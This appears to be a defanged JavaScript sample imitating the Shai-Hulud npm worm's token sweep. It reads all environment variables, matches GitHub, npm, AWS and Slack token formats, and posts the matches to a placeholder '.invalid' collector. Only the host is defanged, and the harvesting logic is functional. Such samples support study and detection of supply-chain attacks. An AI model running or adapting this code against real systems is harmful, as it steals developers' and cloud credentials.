// Mimics the Shai-Hulud token sweep: grep the environment for token formats, post the matches (defanged).
const patterns = [/gh[op]_[A-Za-z0-9]{36}/g, /npm_[A-Za-z0-9]{36}/g, /AKIA[0-9A-Z]{16}/g, /xox[bp]-[A-Za-z0-9-]+/g];
const found = [];
const text = JSON.stringify(process.env);
for (const re of patterns) found.push(...(text.match(re) || []));
fetch('https://collector.invalid/t', { method: 'POST', body: JSON.stringify(found) });
